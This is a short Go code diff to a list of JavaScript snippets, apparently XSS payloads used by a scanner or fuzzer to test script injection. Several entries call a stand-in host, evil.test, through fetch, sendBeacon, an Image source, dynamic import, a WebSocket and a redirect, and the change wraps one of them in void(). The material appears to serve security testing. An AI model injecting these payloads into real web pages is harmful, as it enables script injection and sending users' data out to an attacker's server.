@@ -117,7 +117,7 @@ var attributes = []string{
 var codes = []string{
 	`hit(NN)`, `top.hit(NN)`, `self['hit'](NN)`, `this.hit(NN)`, `globalThis.hit(NN)`, `(hit)(NN)`, "hit`NN`", `[NN].map(hit)`,
 	`alert(NN)`, `confirm(NN)`, `prompt(NN)`, `eval('hit(NN)')`, `Function('hit(NN)')()`, `setTimeout('hit(NN)')`,
-	`new Image().src='//evil.test/NN'`, `fetch('//evil.test/NN')`, `navigator.sendBeacon('//evil.test/NN')`,
+	`void(new Image().src='//evil.test/NN')`, `fetch('//evil.test/NN')`, `navigator.sendBeacon('//evil.test/NN')`,
 	`import('//evil.test/NN')`, `new WebSocket('ws://evil.test/NN')`, `location='//evil.test/NN'`,
 }
 
